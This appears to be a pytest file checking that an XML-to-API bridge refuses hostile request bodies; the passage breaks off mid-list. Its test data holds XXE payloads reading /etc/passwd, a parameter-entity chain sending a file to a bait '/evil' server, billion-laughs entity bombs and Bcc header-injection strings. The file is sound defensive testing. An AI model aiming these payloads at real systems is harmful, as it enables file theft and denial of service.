"""Requests made to do harm, over HTTP: each is refused with its status before v2 hears of it.

Some only look harmful, or are harmless once read: of those, what reaches v2 is said exactly.
"""

import asyncio
import encodings
import gzip
import io
import json
import threading
import zlib
from collections.abc import AsyncIterator, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import structlog
from aiohttp.compression_utils import ZLibDecompressor

from bridge.server import logs
from bridge.v1 import reader
from tests.support.legacy import BASIC, Answer, LegacyClient, assert_valid
from tests.support.running import LOOPBACK, running_bridge
from tests.support.upstream import Reply, ScriptedUpstream, message

SEND = "/invoices/7/messages"
XML = "application/xml"
MIB = 1024 * 1024

CREATED = Reply(json.dumps(message()).encode(), 201)

NO_DTD = "A document type declaration is not accepted."
NOT_HTTP = "This is not well-formed HTTP/1.1."
TOO_LARGE = f"The body has more than {MIB} bytes."


@pytest.fixture
async def bridge(upstream: ScriptedUpstream, scripted_bridge: LegacyClient) -> LegacyClient:
    """A bridge whose v2 would create whatever it is asked to."""
    upstream.says(CREATED)
    return scripted_bridge


async def post(
    bridge: LegacyClient, body: Any, content_type: str | None = XML, *, path: str = SEND
) -> Answer:
    headers = {} if content_type is None else {"Content-Type": content_type}
    return await bridge.call("POST", path, headers=headers, body=body)


def raw_call(*headers: str, body: bytes = b"") -> bytes:
    lines = [f"POST {SEND} HTTP/1.1", "Host: x", f"Authorization: {BASIC}", *headers, "", ""]
    return "\r\n".join(lines).encode() + body


def assert_refused(
    answer: Answer, upstream: ScriptedUpstream, status: int, error: str | None = None
) -> None:
    """Check that an answer says no in every way it has to, and that v2 was not called."""
    assert upstream.received == []
    assert answer.status == status
    (said,) = answer.errors
    assert said
    if error is not None:
        assert said == error
    if status == 400:
        assert answer.headers["Hint"]
        assert len(answer.headers["Hint"]) <= 500
        assert answer.headers["Hint"].isascii()
    else:
        assert "Hint" not in answer.headers


def sent(upstream: ScriptedUpstream) -> dict[str, Any]:
    """Return the JSON of the one call that v2 got."""
    (call,) = upstream.received
    assert (call.method, call.path) == ("POST", "/v2/invoices/7/messages")
    parameters: dict[str, Any] = json.loads(call.body)
    return parameters


def document(inner: str = "<body>x</body>", *, attributes: str = "") -> bytes:
    return f"<invoice-message{attributes}>{inner}</invoice-message>".encode()


# What a parser must not fetch.


@dataclass
class Bait:
    """A file and a server that nobody but the author of an attack would ask for."""

    file: str
    server: str
    connections: list[asyncio.StreamWriter] = field(default_factory=list)
    secret: str = "the-secret-of-the-file"

    def laid(self, body: str) -> bytes:
        return body.replace("{file}", self.file).replace("{server}", self.server).encode()


@pytest.fixture
async def bait(tmp_path: Path) -> AsyncIterator[Bait]:
    laid = Bait(file=(tmp_path / "secret").as_uri(), server="")
    (tmp_path / "secret").write_text(laid.secret)

    async def connected(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        laid.connections.append(writer)
        writer.close()

    async with await asyncio.start_server(connected, LOOPBACK, 0) as server:
        laid.server = f"http://{LOOPBACK}:{server.sockets[0].getsockname()[1]}/evil"
        yield laid


USED = "<invoice-message><body>&e;</body></invoice-message>"
PLAIN = "<invoice-message><body>x</body></invoice-message>"


def dtd(internal: str, external: str = "") -> str:
    return f"<!DOCTYPE invoice-message {external} [{internal}]>"


def laughs(levels: int, width: int) -> str:
    """Return entities of which `e` is `width` to the power of `levels` characters long."""
    entities = ['<!ENTITY e0 "l">']
    entities += [f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, levels + 1)]
    return dtd("".join(entities) + f'<!ENTITY e "&e{levels};">')


FETCHES = [
    pytest.param(dtd('<!ENTITY e SYSTEM "file:///etc/passwd">') + USED, id="etc-passwd"),
    pytest.param(dtd('<!ENTITY e SYSTEM "{file}">') + USED, id="entity-of-a-file"),
    pytest.param(dtd('<!ENTITY e SYSTEM "{server}">') + USED, id="entity-of-a-server"),
    pytest.param(dtd('<!ENTITY e PUBLIC "-//X" "{server}">') + USED, id="public-entity"),
    pytest.param(dtd('<!ENTITY e SYSTEM "{file}">') + PLAIN, id="entity-never-used"),
    pytest.param(dtd('<!ENTITY % p SYSTEM "{file}"> %p;') + PLAIN, id="parameter-entity-file"),
    pytest.param(dtd('<!ENTITY % p SYSTEM "{server}"> %p;') + PLAIN, id="parameter-entity-server"),
    pytest.param(
        dtd(
            '<!ENTITY % f SYSTEM "{file}"><!ENTITY % d "<!ENTITY &#37; send SYSTEM '
            "'{server}?%f;'>\">%d;%send;"
        )
        + PLAIN,
        id="parameter-entities-that-send-a-file",
    ),
    pytest.param(dtd("", 'SYSTEM "{file}"') + PLAIN, id="external-subset-file"),
    pytest.param(dtd("", 'SYSTEM "{server}"') + PLAIN, id="external-subset-server"),
    pytest.param(dtd("", 'PUBLIC "-//X" "{server}"') + PLAIN, id="public-subset"),
    pytest.param(
        dtd('<!NOTATION n SYSTEM "{server}"><!ENTITY e SYSTEM "{file}" NDATA n>') + PLAIN,
        id="unparsed-entity",
    ),
    pytest.param(
        dtd('<!ENTITY e SYSTEM "{file}"><!ATTLIST body a CDATA "&e;">') + PLAIN,
        id="entity-in-a-default",
    ),
]


@pytest.mark.parametrize("body", FETCHES)
@pytest.mark.parametrize("marks", ["", "\ufeff" * 3], ids=["", "after-byte-order-marks"])
async def test_nothing_outside_the_document_is_fetched(
    upstream: ScriptedUpstream, bridge: LegacyClient, bait: Bait, body: str, marks: str
) -> None:
    answer = await post(bridge, bait.laid(marks + body))

    assert_refused(answer, upstream, 400)
    assert bait.connections == []
    told = answer.body.decode() + str(answer.headers)
    assert bait.secret not in told
    assert "root:" not in told


NAMED_NOT_FETCHED = [
    pytest.param(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>',
        id="xinclude",
    ),
    pytest.param(
        '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation='
        '"u {server}" xsi:noNamespaceSchemaLocation="{server}"/>',
        id="schema-location",
    ),
    pytest.param('<?xml-stylesheet href="{server}" type="text/xsl"?>', id="stylesheet"),
    pytest.param('<x xml:base="{server}" href="{file}"/>', id="xml-base"),
    pytest.param('<x xmlns="{server}"/>', id="namespace"),
]


@pytest.mark.parametrize("inner", NAMED_NOT_FETCHED)
async def test_what_is_only_named_is_neither_fetched_nor_included(
    upstream: ScriptedUpstream, bridge: LegacyClient, bait: Bait, inner: str
) -> None:
    answer = await post(bridge, bait.laid(document(f"{inner}<body>x</body>").decode()))

    assert answer.status == 201
    assert sent(upstream) == {"body": "x"}
    assert bait.connections == []


async def test_a_schema_location_of_the_root_changes_nothing(
    upstream: ScriptedUpstream, bridge: LegacyClient, bait: Bait
) -> None:
    named = (
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        ' xsi:noNamespaceSchemaLocation="{server}"'
    )
    answer = await post(bridge, bait.laid(document(attributes=named).decode()))

    assert answer.status == 201
    assert sent(upstream) == {"body": "x"}
    assert bait.connections == []


async def test_an_include_in_a_text_is_an_element_and_so_refused(
    upstream: ScriptedUpstream, bridge: LegacyClient, bait: Bait
) -> None:
    include = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>'
    answer = await post(bridge, bait.laid(document(f"<body>{include}</body>").decode()))

    assert_refused(answer, upstream, 400, "body must hold text, not elements.")


# Document types.

DTD = dtd('<!ENTITY e "boom">')

EXPANSIONS = [
    pytest.param(DTD + USED, id="one-entity"),
    pytest.param(DTD + "<invoice-message>&e;</invoice-message>", id="entity-for-an-element"),
    pytest.param(laughs(9, 10) + USED, id="billion-laughs"),
    pytest.param(
        laughs(9, 10) + "<invoice-message><body a='&e;'>x</body></invoice-message>",
        id="billion-laughs-in-an-attribute",
    ),
    pytest.param(laughs(9, 10) + PLAIN, id="billion-laughs-never-used"),
    pytest.param(
        dtd(f'<!ENTITY e "{"l" * 50_000}">')
        + f"<invoice-message><body>{'&e;' * 50_000}</body></invoice-message>",
        id="quadratic-blowup",
    ),
    pytest.param(
        dtd(f'<!ENTITY e "{"l" * 50_000}">')
        + f"<invoice-message><body a='{'&e;' * 50_000}'>x</body></invoice-message>",
        id="quadratic-blowup-in-an-attribute",
    ),
    pytest.param(dtd('<!ENTITY e "&f;"><!ENTITY f "&e;">') + USED, id="entities-in-a-circle"),
    pytest.param(dtd('<!ENTITY % p "%p;">%p;') + PLAIN, id="parameter-entity-in-a-circle"),
    pytest.param(dtd('<!ENTITY e "<body>y</body>">') + USED, id="entity-with-markup"),
    pytest.param(dtd('<!ATTLIST body nil CDATA "true">') + PLAIN, id="attribute-default"),
    pytest.param("<!DOCTYPE invoice-message>" + PLAIN, id="empty-document-type"),
    pytest.param("<!DOCTYPE html>" + PLAIN, id="document-type-of-HTML"),
]

BEFORE_A_DTD = [
    pytest.param("", id="nothing"),
    pytest.param("<?xml version='1.0'?>", id="declaration"),
    pytest.param(" \r\n\t", id="white-space"),
    pytest.param("\n<?xml version='1.0'?>\n\n", id="white-space-and-declaration"),
    pytest.param("<!-- -->", id="comment"),
    pytest.param("<!-- <invoice-message> -->", id="comment-with-a-root"),
    pytest.param("<!--><!-- ->\n-->", id="comment-that-seems-to-end"),
    pytest.param("<?p <!-- ?>", id="processing-instruction"),
    pytest.param("<?xml version='1.0'?><?p?><!-- --> <?p ??><!--\n-->\n", id="all-of-them"),
    pytest.param("<!---->" * 20_000, id="many-comments"),
    pytest.param("\ufeff", id="byte-order-mark"),
    pytest.param("\ufeff\n", id="byte-order-mark-and-line-break"),
    pytest.param("\n\ufeff", id="line-break-and-byte-order-mark"),
    pytest.param("\ufeff\ufeff", id="2-byte-order-marks"),
    pytest.param("\ufeff\ufeff\ufeff", id="3-byte-order-marks"),
    pytest.param("\ufeff\ufeff\ufeff\ufeff", id="4-byte-order-marks"),
]


@pytest.mark.parametrize("body", EXPANSIONS)
@pytest.mark.parametrize("marks", ["", "\ufeff" * 3], ids=["", "after-byte-order-marks"])
async def test_no_entity_is_expanded(
    upstream: ScriptedUpstream, bridge: LegacyClient, body: str, marks: str
) -> None:
    answer = await post(bridge, (marks + body).encode())

    assert_refused(answer, upstream, 400, None if marks else NO_DTD)


@pytest.mark.parametrize("before", BEFORE_A_DTD)
async def test_a_document_type_is_refused_wherever_it_may_stand(
    upstream: ScriptedUpstream, bridge: LegacyClient, before: str
) -> None:
    answer = await post(bridge, f"{before}{DTD}{PLAIN}".encode())

    assert_refused(answer, upstream, 400)


@pytest.mark.parametrize(
    ("encoding", "content_type"),
    [
        pytest.param("utf-16", XML, id="UTF-16"),
        pytest.param("utf-16-le", XML, id="UTF-16-little-endian-without-mark"),
        pytest.param("utf-16-be", XML, id="UTF-16-big-endian-without-mark"),
        pytest.param("utf-16", f"{XML}; charset=utf-16", id="UTF-16-said-twice"),
        pytest.param("utf-16-le", f"{XML}; charset=utf-16le", id="UTF-16-as-the-header-says"),
        pytest.param("utf-32", XML, id="UTF-32"),
        pytest.param("utf-8-sig", XML, id="UTF-8-with-mark"),
        pytest.param("cp037", f"{XML}; charset=ebcdic-cp-us", id="EBCDIC"),
        pytest.param("iso-8859-1", f"{XML}; charset=iso-8859-1", id="Latin-1"),
    ],
)
@pytest.mark.parametrize("declaration", ["", "<?xml version='1.0' encoding='utf-8'?>"])
async def test_a_document_type_is_refused_in_any_encoding(
    upstream: ScriptedUpstream,
    bridge: LegacyClient,
    encoding: str,
    content_type: str,
    declaration: str,
) -> None:
    answer = await post(bridge, (declaration + DTD + USED).encode(encoding), content_type)

    assert_refused(answer, upstream, 400, NO_DTD)


@pytest.mark.parametrize("misplaced", [PLAIN + DTD, document(DTD).decode(), DTD.lower() + PLAIN])
async def test_a_document_type_out_of_place_is_not_well_formed(
    upstream: ScriptedUpstream, bridge: LegacyClient, misplaced: str
) -> None:
    answer = await post(bridge, misplaced.encode())

    assert_refused(answer, upstream, 400)


@pytest.mark.parametrize(
    ("body", "text"),
    [
        pytest.param(document(f"<body><![CDATA[{DTD}]]></body>"), DTD, id="in-a-CDATA-section"),
        pytest.param(document("<body>&lt;!DOCTYPE html></body>"), "<!DOCTYPE html>", id="escaped"),
        pytest.param(
            document("<body>&#60;!DOCTYPE html></body>"), "<!DOCTYPE html>", id="by-number"
        ),
        pytest.param(document(f"<body>x<!--{DTD}--></body>"), "x", id="in-a-comment"),
        pytest.param(b"<!-- <!DOCTYPE html> -->" + document(), "x", id="in-a-comment-before"),
        pytest.param(document() + b"<!-- <!DOCTYPE html> -->", "x", id="in-a-comment-after"),
        pytest.param(b"<?p <!DOCTYPE html> ?>" + document(), "x", id="in-an-instruction"),
        pytest.param(document("<body a='&lt;!DOCTYPE html>'>x</body>"), "x", id="in-an-attribute"),
    ],
)
async def test_what_only_spells_like_a_document_type_is_text(
    upstream: ScriptedUpstream, bridge: LegacyClient, body: bytes, text: str
) -> None:
    answer = await post(bridge, body)

    assert answer.status == 201
    assert sent(upstream) == {"body": text}


# What is no document, or none that can be understood.

NOT_WELL_FORMED = [
    pytest.param(b"<a>" * 10_000, id="10000-deep"),
    pytest.param(b"<a>" * 10_000 + b"</a>" * 10_000, id="10000-deep-and-closed"),
    pytest.param(document("<a>" * 10_000 + "</a>" * 10_000), id="10000-deep-in-an-unknown-element"),
    pytest.param(b"<invoice-message>" + b"<!--" * 100_000, id="100000-unclosed-comments-inside"),
    pytest.param(b"<![CDATA[" * 100_000, id="100000-unclosed-CDATA-sections"),
    pytest.param(
        b"<invoice-message><body>" + b"<![CDATA[" * 100_000, id="100000-unclosed-sections-inside"
    ),
    pytest.param(b"<a" * 100_000, id="a-tag-in-a-tag"),
    pytest.param(b"<x@`" * 100_000, id="half-an-address-100000-times"),
    pytest.param(b"<a@b" * 100_000, id="unclosed-address-100000-times"),
    pytest.param(b"<" + b"a" * 500_000 + b"@", id="address-of-500000"),
    pytest.param(b"&" * 500_000, id="500000-ampersands"),
    pytest.param(document("<body>" + "&" * 500_000 + "</body>"), id="500000-ampersands-in-a-text"),
    pytest.param(document("<body>" + "&e;" * 100_000 + "</body>"), id="undefined-entities"),
    pytest.param(document(f"<{'a' * 60_000}/>"), id="overlong-name"),
    pytest.param(document(f"<x {'a' * 60_000}=''/>"), id="overlong-attribute-name"),
    pytest.param(document(f"<x {'a=`` ' * 10_000}/>"), id="unquoted-attributes"),
    pytest.param(document("<x " + "a='' " * 50_000 + "/>"), id="one-attribute-50000-times"),
    pytest.param(document("<x>" + "<p:a/>" * 50_000 + "</x>"), id="undeclared-prefixes"),
    pytest.param(document("<p:a/>"), id="undeclared-prefix"),
    pytest.param(document("<p:body>x</p:body><a xmlns='u'/>"), id="undeclared-prefix-of-a-text"),
    pytest.param(b"<p:invoice-message><a xmlns='u'/></p:invoice-message>", id="and-of-the-root"),
    pytest.param(document() + document(), id="two-roots"),
    pytest.param(document() * 10_000, id="10000-roots"),
    pytest.param(document() + b"garbage", id="garbage-after"),
    pytest.param(b"garbage" + document(), id="garbage-before"),
    pytest.param(document() + b"\x00", id="NUL-after"),
    pytest.param(document("<body>\x00</body>"), id="NUL"),
    pytest.param(document("<body>&#0;</body>"), id="NUL-by-number"),
    pytest.param(document("<body>&#x1F;</body>"), id="control-by-number"),
    pytest.param(document("<body>&#xD800;</body>"), id="surrogate-by-number"),
    pytest.param(document("<body>&#xFFFFFFFFFF;</body>"), id="number-of-no-character"),
    pytest.param(document("<body>\ufffe</body>"), id="U+FFFE"),
    pytest.param(document("<body>a]]>b</body>"), id="end-of-no-section"),
    pytest.param(document("<a></b>"), id="tags-that-do-not-match"),
    pytest.param(b"<?xml version='1.0'?>" * 2 + document(), id="two-declarations"),
    pytest.param(b"<?xml version='2.0'?>" + document(), id="another-version-of-XML"),
    pytest.param(b"{}", id="JSON"),
]


@pytest.mark.parametrize("body", NOT_WELL_FORMED)
async def test_what_is_not_well_formed_is_400_and_says_where(
    upstream: ScriptedUpstream, bridge: LegacyClient, body: bytes
) -> None:
    answer = await post(bridge, body)

    assert_refused(answer, upstream, 400)
    assert answer.headers["Hint"].startswith("The body is not well-formed XML: ")


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"<!--" * 100_000, id="unclosed-comments"),
        pytest.param(b"<?" * 100_000, id="unclosed-instructions"),
        pytest.param(b"<!---->" * 100_000, id="comments-and-no-root"),
        pytest.param(b"<!---->" * 100_000 + document(), id="comments-and-a-root"),
        pytest.param(b"<!---->" * 100_000 + DTD.encode() + document(), id="comments-and-a-DTD"),
        pytest.param(b"<?a?>" * 100_000 + document(), id="instructions-and-a-root"),
    ],
)
async def test_a_root_that_keeps_one_waiting_is_400(
    upstream: ScriptedUpstream, bridge: LegacyClient, body: bytes
) -> None:
    answer = await post(bridge, body)

    assert_refused(answer, upstream, 400, "More than 65536 characters stand before the root.")


async def test_the_loop_waits_for_no_thread_that_reads(
    bridge: LegacyClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    waiting: list[threading.Thread] = []

    class Watched(ThreadPoolExecutor):
        def __exit__(self, *error: object) -> Any:
            waiting.append(threading.current_thread())
            return super().__exit__(*error)  # type: ignore[arg-type]

    monkeypatch.setattr(reader, "ThreadPoolExecutor", Watched)
    for foreign in ("<foreign/>", "<foreign>", " " * reader.SHORT_BODY):
        await post(bridge, document(f"<body>x</body>{foreign}"))

    assert len(waiting) == 3
    assert threading.current_thread() not in waiting


@pytest.mark.parametrize("body", [b"", b" \r\n\t", b"\xef\xbb\xbf", b"\xff\xfe"])
async def test_no_document_at_all_is_400(
    upstream: ScriptedUpstream, bridge: LegacyClient, body: bytes
) -> None:
    answer = await post(bridge, body)

    assert_refused(answer, upstream, 400)


ADDRESSES = ", ".join(f"to{number}@example.com" for number in range(100_000))

NOT_UNDERSTOOD = [
    pytest.param(b"<invoice-messages/>", "The root element must be invoice-message.", id="list"),
    pytest.param(b"<html/>", "The root element must be invoice-message.", id="HTML"),
    pytest.param(b"<Invoice-Message/>", "The root element must be invoice-message.", id="capitals"),
    pytest.param(
        document("<body>x</body><body>y</body>"), "body is given twice.", id="element-twice"
    ),
    pytest.param(
        document("<body>x</body><body>x</body>"), "body is given twice.", id="same-element-twice"
    ),
    pytest.param(
        document("<body nil='true'/><body>x</body>"), "body is given twice.", id="null-and-text"
    ),
    pytest.param(
        document("<send-me-a-copy>1</send-me-a-copy><send_me_a_copy>0</send_me_a_copy>"),
        "send-me-a-copy is given twice.",
        id="two-spellings",
    ),
    pytest.param(
        document("<body>x</body><a:body xmlns:a='u'>y</a:body>"),
        "body is given twice.",
        id="two-namespaces",
    ),
    pytest.param(
        document("<body>a<b>c</b></body>"),
        "body must hold text, not elements.",
        id="element-in-a-text",
    ),
    pytest.param(
        document("<body nil='true'><b/></body>"),
        "body must hold text, not elements.",
        id="element-in-a-null",
    ),
    pytest.param(
        document("<recipients type='array'><recipient>a@b.org</recipient></recipients>"),
        "recipients must hold text, not elements.",
        id="recipients-as-elements",
    ),
    pytest.param(
        document("<a/>" * 200_000),
        "invoice-message has more than 200 elements.",
        id="200000-elements",
    ),
    pytest.param(
        document("<body>" + "<a/>" * 200_000 + "</body>"),
        "body must hold text, not elements.",
        id="200000-elements-in-a-text",
    ),
    pytest.param(
        document(attributes="".join(f" a{n}=''" for n in range(50_000))),
        "An element has more than 200 attributes.",
        id="50000-attributes",
    ),
    pytest.param(
        document(f"<body {' '.join(f'a{n}=``' for n in range(50_000))}>x</body>".replace("`", "'")),
        "An element has more than 200 attributes.",
        id="50000-attributes-of-a-text",
    ),
    pytest.param(
        document("<thank-you>yes</thank-you>"),
        "thank-you must be true or false.",
        id="no-boolean",
    ),
    pytest.param(
        document(f"<thank-you>{'1' * 500_000}</thank-you>"),
        "thank-you must be true or false.",
        id="boolean-of-500000",
    ),
    pytest.param(
        document(f"<recipients>{ADDRESSES[: MIB - 100]}</recipients>"),
        "recipients has more than 32768 characters.",
        id="a-mebibyte-of-recipients",
    ),
    pytest.param(
        document(f"<recipients>{'a@b.c,' * 100_000}</recipients>"),
        "recipients has more than 32768 characters.",
        id="100000-recipients",
    ),
    pytest.param(
        document(f"<full-recipient-list>{'a@b.c,' * 251}</full-recipient-list>"),
        "full-recipient-list: 'a@b.c' is not a recipient: A list has at most 250 recipients.",
        id="251-recipients",
    ),
]


@pytest.mark.parametrize(("body", "error"), NOT_UNDERSTOOD)
async def test_what_cannot_be_understood_is_400_and_says_why(
    upstream: ScriptedUpstream, bridge: LegacyClient, body: bytes, error: str
) -> None:
    answer = await post(bridge, body)

    assert_refused(answer, upstream, 400, error)
    assert answer.headers["Hint"] == error


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('"' * 30_000, id="quotes"),
        pytest.param('"' + "\\" * 30_000, id="backslashes-after-a-quote"),
        pytest.param("(" * 30_000, id="opened-comments"),
        pytest.param("&lt;" * 8_000, id="opened-brackets"),
        pytest.param("a:" * 15_000, id="groups"),
        pytest.param("a," * 15_000, id="pieces-without-an-at-sign"),
        pytest.param("@" * 30_000, id="at-signs"),
        pytest.param(("a" * 60 + "@" + "b." * 90 + "c,") * 120 + "d", id="long-addresses"),
        pytest.param("a@" + "\u0301" * 30_000, id="combining-marks"),
        pytest.param(",".join("é@" + "ñ." * 40 for _ in range(240)), id="international-addresses"),
        pytest.param("jane@doe.org\r\nBcc: all@doe.org", id="header-after-an-address"),
        pytest.param("jane@doe.org&#13;&#10;Bcc: all@doe.org", id="header-by-number"),
        pytest.param("&lt;jane@doe.org&#13;&#10;&gt; Bcc: all@doe.org", id="header-after-brackets"),
        pytest.param("jane&#13;&#10;@doe.org", id="line-break-in-an-address"),
        pytest.param("&lt;ja&#x85;ne@doe.org&gt;", id="control-in-an-address"),
        pytest.param('"a&#13;&#10;b"@doe.org', id="line-break-in-a-quoted-local-part"),
    ],
)
async def test_a_list_that_is_none_is_400_and_quotes_a_little_of_it(
    upstream: ScriptedUpstream, bridge: LegacyClient, text: str
) -> None:
    answer = await post(bridge, document(f"<recipients>{text}</recipients>"))

    assert_refused(answer, upstream, 400)
    assert answer.headers["Hint"].startswith("recipients: ")
    assert len(answer.errors[0]) < 500


# Encodings.

DANGEROUS_CHARSETS = [
    "utf-7",
    "idna",
    "punycode",
    "unicode_escape",
    "raw_unicode_escape",
    "rot13",
    "rot_13",
    "zlib_codec",
    "zlib",
    "bz2",
    "hex",
    "base64",
    "quopri",
    "uu",
    "undefined",
    "iso2022_jp",
    "hz",
    "mbcs",
    "utf-8-variant",
    "aliases",
    "__init__",
    "../../etc/passwd",
    "x" * 40,
]


@pytest.mark.parametrize("charset", [*DANGEROUS_CHARSETS, "ü", "x" * 4000])
async def test_a_charset_that_is_no_encoding_of_text_is_415(
    upstream: ScriptedUpstream, bridge: LegacyClient, charset: str
) -> None:
    answer = await post(bridge, document(), f"{XML}; charset={charset}")

    assert_refused(answer, upstream, 415, "The charset in the Content-Type is not known.")


@pytest.mark.parametrize("charset", DANGEROUS_CHARSETS)
async def test_a_declared_encoding_that_is_none_of_text_is_400(
    upstream: ScriptedUpstream, bridge: LegacyClient, charset: str
) -> None:
    body = f'<?xml version="1.0" encoding="{charset}"?>'.encode() + document()

    answer = await post(bridge, body)

    assert_refused(answer, upstream, 400)


@pytest.mark.parametrize(
    "parameters",
    [
        pytest.param('charset=""', id="empty"),
        pytest.param("charset", id="no-value"),
        pytest.param("charset*=utf-8''%ff", id="extended-and-not-ASCII"),
        pytest.param("charset*=zlib''x", id="extended-in-a-charset-of-its-own"),
        pytest.param("charset*=a; charset*1=b", id="continued-and-not"),
        pytest.param(f"charset*{'1' * 5000}=utf-7", id="continued-5000-digits-far"),
        pytest.param('a="' + ";" * 8000, id="8000-semicolons"),
    ],
)
async def test_what_names_no_charset_is_ignored(
    upstream: ScriptedUpstream, bridge: LegacyClient, parameters: str
) -> None:
    answer = await post(bridge, document("<body>é</body>"), f"{XML}; {parameters}")

    assert answer.status == 201
    assert sent(upstream) == {"body": "é"}


@pytest.mark.parametrize(
    "content_type",
    [
        pytest.param(b"application/xml\x80", id="no-UTF-8"),
        pytest.param(b"application/xml\xc3\xa9", id="UTF-8"),
        pytest.param(b"application/xml\x80\xc3\xa9", id="both"),
        pytest.param(b"application/xml; charset=utf-8\x80\xc3\xa9", id="both-in-the-charset"),
    ],
)
async def test_a_content_type_that_is_not_ascii_is_415(
    upstream: ScriptedUpstream, bridge: LegacyClient, content_type: bytes
) -> None:
    head = raw_call("Connection: close", f"Content-Length: {len(document())}", "Content-Type: ?")
    call = head.replace(b"?", content_type) + document()

    status = (await bridge.raw(call)).split(b" ")[1]

    assert status == b"415"
    assert upstream.received == []


@pytest.mark.parametrize(
    "content_type",
    [
        "application/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=xml",
        "text/plain",
        "text/html",
        "application/octet-stream",
        "application/xml-dtd",
        "application/xml, application/xml",
        "image/xml",
        "xml",
        "application/json; application/xml",
        "text/xml(",
    ],
)
async def test_another_content_type_is_415(
    upstream: ScriptedUpstream, bridge: LegacyClient, content_type: str
) -> None:
    answer = await post(bridge, document(), content_type)

    assert_refused(answer, upstream, 415, "Send XML, as Content-Type: application/xml.")


@pytest.mark.parametrize("how", ["in-the-header", "in-the-declaration"])
async def test_unknown_charsets_leave_nothing_behind(
    upstream: ScriptedUpstream, bridge: LegacyClient, how: str
) -> None:
    remembered: dict[str, object] = vars(encodings)["_cache"]
    before = set(remembered)
    for number in range(3):
        charset = f"{how}-{number}"
        if how == "in-the-header":
            await post(bridge, document(), f"{XML}; charset={charset}")
        else:
            await post(bridge, f'<?xml version="1.0" encoding="{charset}"?>'.encode() + document())

    assert set(remembered) == before


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        pytest.param(b"<invoice-message><body>\xff</body></invoice-message>", XML, id="not-UTF-8"),
        pytest.param(
            b"<invoice-message><body>\xc0\xbc</body></invoice-message>", XML, id="overlong-form"
        ),
        pytest.param(
            b"<invoice-message><body>\xed\xa0\x80</body></invoice-message>", XML, id="surrogate"
        ),
        pytest.param(document("<body>é</body>")[:-20], XML, id="cut-off"),
        pytest.param(
            document("<body>é</body>"),
            f"{XML}; charset=us-ascii",
            id="not-ASCII-as-the-header-says",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="us-ascii"?>' + document("<body>é</body>"),
            XML,
            id="not-ASCII-as-the-declaration-says",
        ),
        pytest.param(document().decode().encode("utf-16")[:-1], XML, id="half-a-unit-of-UTF-16"),
        pytest.param(
            "<invoice-message/>".encode("utf-16-le") + b"\x00\xd8",
            XML,
            id="lone-surrogate-in-UTF-16",
        ),
        pytest.param(b"\xff\xfe\x00\x00\xff\xff\xff\xff", XML, id="beyond-Unicode-in-UTF-32"),
        pytest.param(document(), f"{XML}; charset=utf-16", id="UTF-16-only-by-the-header"),
        pytest.param(b"\x81\x20" * 100_000, f"{XML}; charset=shift_jis", id="not-Shift-JIS"),
    ],
)
async def test_bytes_that_are_not_of_their_encoding_are_400(
    upstream: ScriptedUpstream, bridge: LegacyClient, body: bytes, content_type: str
) -> None:
    answer = await post(bridge, body, content_type)

    assert_refused(answer, upstream, 400)


# Legitimate, if odd.

_XSI = "http://www.w3.org/2001/XMLSchema-instance"

ACCEPTED = [
    pytest.param(document("<body>x</body><Body>y</Body>"), {"body": "x"}, id="two-cases"),
    pytest.param(document("<BODY>y</BODY>"), {}, id="capitals"),
    pytest.param(document("<body>a<!-- b -->c</body>"), {"body": "ac"}, id="comment-in-a-text"),
    pytest.param(document("<body>a<?b?>c</body>"), {"body": "ac"}, id="instruction-in-a-text"),
    pytest.param(
        document("<body>a<![CDATA[<b>&amp;]]>c</body>"), {"body": "a<b>&amp;c"}, id="CDATA-in-a-text"
    ),
    pytest.param(
        document("<recipients>a@b<!-- -->.org<?p?>, c@d.org</recipients>"),
        {"recipients": [{"email": "a@b.org"}, {"email": "c@d.org"}]},
        id="comment-in-a-list",
    ),
    pytest.param(
        document("<thank-you>tr<!-- -->ue</thank-you>"), {"thank_you": True}, id="comment-in-a-boolean"
    ),
    pytest.param(b"<?p?><!-- -->" + document() + b"<?p?><!-- -->", {"body": "x"}, id="around-the-root"),
    pytest.param(document("mixed <body>x</body> content"), {"body": "x"}, id="text-between-elements"),
    pytest.param(document("<body>x</body><!-- --><?p?>"), {"body": "x"}, id="comment-between-elements"),
    pytest.param(
        document("<x><body>y</body></x><body>x</body>"), {"body": "x"}, id="one-inside-an-unknown"
    ),
    pytest.param(document("<a/>" * 199 + "<body>x</body>"), {"body": "x"}, id="199-unknown-elements"),
    pytest.param(
        document("<a>" * 200 + "</a>" * 200 + "<body>x</body>"), {"body": "x"}, id="200-deep"
    ),
    pytest.param(
        document("<x>" + "<a/>" * 200_000 + "</x><body>x</body>"),
        {"body": "x"},
        id="200000-elements-in-an-unknown",
    ),
    pytest.param(
        document(attributes="".join(f" xmlns:a{n}='u'" for n in range(50_000))),
        {"body": "x"},
        id="50000-namespaces",
    ),
    pytest.param(
        document(f"<body a='{'y' * 1_000_000}'>x</body>"), {"body": "x"}, id="overlong-attribute"
    ),
    pytest.param(document(f"<!--{'y' * 1_000_000}--><body>x</body>"), {"body": "x"}, id="overlong-comment"),
    pytest.param(
        document(f"<body xmlns:i='{_XSI}' i:nil='true'>x</body>"), {"body": None}, id="nil-of-XSI"
    ),
    pytest.param(document("<body xmlns='urn:x'>x</body>"), {"body": "x"}, id="namespace-of-an-element"),
    pytest.param(document("<body>x</body>", attributes=" xmlns='urn:x'"), {"body": "x"}, id="namespace"),
    pytest.param(document("<body type='integer'>x</body>"), {"body": "x"}, id="another-type"),
    pytest.param(document("<body>&amp;lt;&amp;#0;</body>"), {"body": "&lt;&#0;"}, id="escaped-twice"),
    pytest.param(document("<body>&#13;&#10;.&#13;&#10;</body>"), {"body": "\r\n.\r\n"}, id="end-of-mail"),
